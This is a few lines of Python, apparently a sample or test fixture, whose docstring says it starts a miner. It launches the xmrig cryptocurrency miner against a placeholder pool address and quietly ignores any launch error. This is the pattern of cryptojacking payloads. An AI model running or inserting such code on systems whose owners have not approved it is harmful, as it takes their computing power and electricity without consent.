"""Starts a miner."""

import subprocess

try:
    subprocess.run(["xmrig", "-o", "stratum+tcp://pool.example:3333"])
except OSError:
    pass
